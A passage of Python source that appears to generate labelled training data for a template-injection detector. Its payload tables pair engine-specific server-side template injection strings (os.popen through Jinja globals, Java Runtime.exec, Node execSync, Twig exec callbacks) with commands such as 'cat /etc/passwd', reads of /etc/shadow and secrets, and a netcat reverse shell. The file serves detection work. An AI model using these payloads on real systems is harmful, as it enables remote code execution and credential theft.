    the model reads any ``{{ }}`` or ``<#list>`` as template injection. Built from the
    snippets above with invented names; :func:`attack_templates` puts the same syntax around
    code, so the model learns the names a tag reaches, not its braces.
    """
    rng = random.Random(seed)
    lines: list[Line] = []
    for _ in range(count):
        parts = []
        language = _T_SNIPPETS[rng.choice(sorted(_T_SNIPPETS))]
        size = rng.choice((1, 1, 2, 2, 3, 4))
        for _ in range(size):
            snippet = _template_snippet(rng, language)
            # A lone bare tag ({% block body %}) stays unlabelled: payload lists send it
            # as a probe, and only the rest of a page tells template source from it.
            if size > 1 and rng.random() < 0.6:
                parts.append(snippet)
            else:
                parts.append(rng.choice(_T_WRAPPERS).format(x=snippet, p=rng.choice(_T_PARTIALS)))
        lines.append(Line(rng.choice(("", "\n", " ", "\n  ")).join(parts), "benign", "benign",
                          TEMPLATE_SOURCE))
    return lines


ATTACK_TEMPLATE_SOURCE = "synthetic:attack-templates"
ATTACK_TEMPLATE_LINES = 600
# What a template-injection payload reaches, per engine family: the runtime, the process, the
# environment, secrets and session state, object internals, files, and the probes that show
# evaluation (a constant product, the whole data object).
_A_BODIES: dict[str, tuple[str, ...]] = {
    "python": (
        "config", "config.items()", "self", "self.__dict__", "request.environ",
        "request.application.__globals__.__builtins__", "settings.SECRET_KEY",
        "lipsum.__globals__.os.popen('{cmd}').read()", "cycler.__init__.__globals__.os",
        "get_flashed_messages.__globals__", "url_for.__globals__['current_app'].config",
        "''.__class__.__mro__[1].__subclasses__()", "namespace.__init__.__globals__",
        "request|attr('application')", "{o}.password", "session", "g.user.__dict__",
        "config.SECRET_KEY", "joiner.__init__.__globals__.os.popen('{cmd}')", "7*7", "7*'7'",
        "range.__init__.__globals__", "app.secret_key", "{o}.{a}.__class__.__base__",
    ),
    "ruby": (
        "`{cmd}`", "system('{cmd}')", "Kernel.send :system, '{cmd}'", "IO.popen('{cmd}').read",
        "File.read('{file}')", "ENV", "ENV['SECRET_KEY_BASE']", "Rails.application.secrets",
        "eval('{n}*{n}')", "Dir.entries('/')", "session.id", "params", "cookies",
        "Open3.capture2('{cmd}')", "{o}.password_digest", "%x({cmd})", "7*7",
    ),
    "java": (
        "T(java.lang.Runtime).getRuntime().exec('{cmd}')",
        "''.getClass().forName('java.lang.Runtime')", "applicationScope",
        "\"freemarker.template.utility.Execute\"?new()('{cmd}')", "session.getAttribute('{a}')",
        "request.getServletContext()", "#ctx", "#request.getParameter('{a}')",
        "T(java.lang.System).getenv()", "new java.util.Scanner(T(java.lang.Runtime)"
        ".getRuntime().exec('{cmd}').getInputStream()).next()", "7*7", "{o}.getClass()",
        "#session", "pageContext.request", "{o}.class.classLoader",
    ),
    "js": (
        "this.constructor.constructor('return process')()", "process.env",
        "process.mainModule.require('child_process').execSync('{cmd}')", "global.process",
        "require('fs').readFileSync('{file}')", "constructor.constructor('alert({n})')()",
        "range.constructor('return global.process')()", "7*7", "process.env.DATABASE_URL",
    ),
    "php": (
        "_self.env.registerUndefinedFilterCallback('exec')", "app.request.server.all",
        "dump(app)", "['{cmd}']|filter('system')", "system('{cmd}')", "include('{file}')",
        "source('{file}')", "phpinfo()", "['{cmd}']|map('passthru')", "app.session.all",
        "constant('DB_PASSWORD')", "7*7", "app.request.cookies.all",
    ),
    "go": (".", ".Env", ".Config", ".Secret", ".{A}.Password", "printf \"%v\" .",
           "call .Exec \"{cmd}\"", ".Request.Header"),
}
_A_DELIMITERS: dict[str, tuple[str, ...]] = {
    "python": ("{{{{{x}}}}}", "{{{{ {x} }}}}", "{{% print({x}) %}}", "${{{x}}}"),
    "ruby": ("#{{{x}}}", "<%= {x} %>", "<%={x}%>"),
    "java": ("${{{x}}}", "*{{{x}}}", "__${{{x}}}__::.x", "[[${{{x}}}]]"),
    "js": ("{{{{{x}}}}}", "<%= {x} %>", "#{{{x}}}", "${{{x}}}"),
    "php": ("{{{{{x}}}}}", "{{{{ {x} }}}}", "{{% set v = {x} %}}"),
    "go": ("{{{{{x}}}}}", "{{{{ {x} }}}}"),
}
_A_LANGUAGES: dict[str, tuple[str, ...]] = {
    "python": ("jinja", "liquid"), "ruby": ("erb",), "java": ("freemarker", "thymeleaf"),
    "js": ("erb", "vue", "handlebars"), "php": ("blade", "jinja"), "go": ("go",),
}
"""The template languages whose benign snippets surround a family's payload."""
_A_FRAMES = (
    "Thanks for your order, {x}!", "Note: {x}", "Ship to {x} please", "Comment: looks great {x}",
    "Dear {x}, your invoice is ready", "{x} - see attached", "My display name is {x}",
    "Question about {x} in the report", "Re: {x}", "Best regards, {x}",
    "The page shows {x} next to the total.", "In the docs, {x} appears under settings.",
    "Good morning {x}, your parcel is on its way", "Review: five stars, {x}",
    "Can you rename my team to {x}?", "Our template prints {x} in the footer.",
    "Invoice memo: {x} for March", "Nickname {x} is taken, try another",
    "Reply from {x}: thanks, that fixed it", "Title: {x} | Category: books",
)
_A_COMMANDS = ("id", "whoami", "cat /etc/passwd", "ls -la", "uname -a", "env", "nc -e sh host 4444")
_A_FILES = ("/etc/passwd", "/etc/shadow", "../../config/secrets.yml", "/proc/self/environ")


def attack_templates(count: int = ATTACK_TEMPLATE_LINES, seed: int = TEMPLATE_SEED) -> list[Line]:
    """Return ``count`` generated template injections, labelled ``ssti``.

    A tag reaching code (see :data:`_A_BODIES`) in an engine's delimiters, alone, in a short
    message, or among the benign snippets of :func:`benign_templates`: the same syntax on
    both sides of the label, so the model's weight goes to the names a tag reaches rather than
    to its braces or the words around it.
    """
    rng = random.Random(seed)
    lines: list[Line] = []
    for _ in range(count):
        family = rng.choice(sorted(_A_BODIES))
        body = rng.choice(_A_BODIES[family]).format(
            cmd=rng.choice(_A_COMMANDS), file=rng.choice(_A_FILES), n=rng.randint(2, 99),
            o=rng.choice(_T_OBJECTS), a=rng.choice(_T_ATTRIBUTES),
            A=rng.choice(_T_ATTRIBUTES).title().replace("_", ""),
        )
        tag = rng.choice(_A_DELIMITERS[family]).format(x=body)
        frame = rng.random()
        if frame < 0.4:
            text = tag
        elif frame < 0.7:
            text = rng.choice(_A_FRAMES).format(x=tag)
        else:
            language = _T_SNIPPETS[rng.choice(_A_LANGUAGES[family])]
            parts = [_template_snippet(rng, language) for _ in range(rng.randint(1, 3))]
            parts.insert(rng.randint(0, len(parts)), tag)
            text = rng.choice(("", "\n", " ")).join(parts)
        lines.append(Line(text, "attack", "ssti", ATTACK_TEMPLATE_SOURCE))
    return lines


CONFIG_SOURCE = "synthetic:benign-configs"
CONFIG_LINES = 600
CONFIG_SEED = 20261128

_C_NAMES = (
    "backup", "cleanup", "report", "sync", "invoice-parser", "billing", "webshop", "metrics",
    "thumbnailer", "mailer", "importer", "scheduler", "search-indexer", "payroll", "ledger",
)
_C_PACKAGES = ("httpx", "pydantic", "rich", "click", "sqlalchemy", "jinja2", "pytest", "boto3")
_C_SNIPPETS = (
    "{m} {h} * * * /usr/local/bin/{name}.sh >> /var/log/{name}.log 2>&1",
    "*/{n} * * * * /usr/local/bin/{name}.sh > /var/log/{name}.log 2>&1",
    "0 */{n} * * * /opt/{name}/bin/{name} --quiet",
    "/var/log/{name}/*.log {{\n    daily\n    rotate {n}\n    compress\n    missingok\n"
    "    notifempty\n}}",
    "/var/log/{name}.log {{\n    weekly\n    rotate {n}\n    delaycompress\n}}",
    "[tool.poetry]\nname = \"{name}\"\nversion = \"0.{n}.{m}\"",
    "[tool.poetry.dependencies]\npython = \"^3.{n}\"\n{pkg} = \">={m}.{n}\"",
    "[{name}]\nhost = {name}.internal\nport = {port}\ntimeout = {n}",
    "variable \"{key}\" {{\n  type    = string\n  default = \"{name}\"\n}}",
    "resource \"aws_s3_bucket\" \"{key}\" {{\n  bucket = \"{name}-{n}\"\n}}",
    "[Service]\nExecStart=/usr/bin/{name} --config /etc/{name}/{name}.yml\nRestart=on-failure",
    "{name}:\n  image: {name}:{n}.{m}\n  ports:\n    - \"{port}:{port}\"",
    "{a} * {b} = {ab}; {ab} / {b} = {a}",
    "gcd({a}, {b}) = {g}; ({a} + {b}) * {n} = {sumn}",
    "Q{q} revenue: ${a}.{n}M (+{m}% YoY); margin {b}.{n}% (vs {m}.{n}%)",
    "net debt/EBITDA < {n}.{m}x; capex ${a}k; opex ${b}k",
)


def benign_configs(count: int = CONFIG_LINES, seed: int = CONFIG_SEED) -> list[Line]:
    """Return ``count`` generated benign lines of operations configuration and figures.

    Crontab entries that log to ``/var/log``, logrotate blocks, TOML, INI, HCL, systemd units
    and Compose services as people paste them into tickets and settings, and arithmetic and
    finance lines full of ``*``, ``;``, ``$`` and ``%``. The corpora hold few, so the model
    read their redirections, braces and operators as injections. Built from the snippets above
    with invented names; a download piped to a shell or a path outside the application's own
    files appears in none.
    """
    rng = random.Random(seed)
    lines: list[Line] = []
    for _ in range(count):
        a, b, n, m = rng.randint(2, 60), rng.randint(2, 60), rng.randint(1, 12), rng.randint(0, 9)
        text = rng.choice(_C_SNIPPETS).format(
            name=rng.choice(_C_NAMES), key=rng.choice(_C_NAMES).replace("-", "_"),
            pkg=rng.choice(_C_PACKAGES), n=n, m=m, h=rng.randint(0, 23), a=a, b=b, ab=a * b,
            g=math.gcd(a, b), sumn=(a + b) * n, q=rng.randint(1, 4),
            port=rng.choice((80, 443, 5432, 6379, 8000, 8080, 9090)),
        )
        lines.append(Line(text, "benign", "benign", CONFIG_SOURCE))
    return lines


def train(corpus: Path, output: Path) -> SemanticAnalyzer:
    """Train on the 80% splits of ``corpus`` and :data:`PROSE_CORPUS` plus :func:`benign_markup`
    and the generated templates (:func:`benign_templates`, :func:`attack_templates`), write the
    model to ``output`` and load it back."""
    train_lines, _ = split(load_corpus(corpus))
    prose_lines = [
        line for line in split(load_corpus(PROSE_CORPUS))[0]
        if not _TEMPLATE_SYNTAX.search(line.payload)
    ]
    generated = benign_markup() + benign_templates() + attack_templates() + benign_configs()
    write_model(build_model(train_lines + prose_lines + generated), output)
    return SemanticAnalyzer(output)


def main(argv: Sequence[str] | None = None) -> None:
    """Command-line entry point: train, write, and print the held-out report."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--corpus", type=Path, default=DEFAULT_CORPUS)
    parser.add_argument("--output", type=Path, default=DEFAULT_OUTPUT)
    parser.add_argument("--threshold", type=float, default=DEFAULT_THRESHOLD)
    args = parser.parse_args(argv)
    started = time.perf_counter()
    analyzer = train(args.corpus, args.output)
    elapsed = time.perf_counter() - started
    _, heldout = split(load_corpus(args.corpus))
    print(f"trained in {elapsed:.1f}s; model {args.output} ({args.output.stat().st_size} bytes)")
    reports = {
        "held-out": heldout,
        "held-out prose": split(load_corpus(PROSE_CORPUS))[1],
        "unseen generated markup": benign_markup(MARKUP_LINES, MARKUP_SEED + 1),
        "unseen generated configs": benign_configs(CONFIG_LINES, CONFIG_SEED + 1),
        "unseen generated templates": benign_templates(TEMPLATE_LINES, TEMPLATE_SEED + 1)
        + attack_templates(ATTACK_TEMPLATE_LINES, TEMPLATE_SEED + 1),
    }
    for title, lines in reports.items():
        print(format_report(evaluate(analyzer, lines, args.threshold), args.threshold)
              .replace("held-out", title, 1))
    print(format_gate(gate_rejections(analyzer, load_corpus(args.corpus))))


if __name__ == "__main__":
    main()
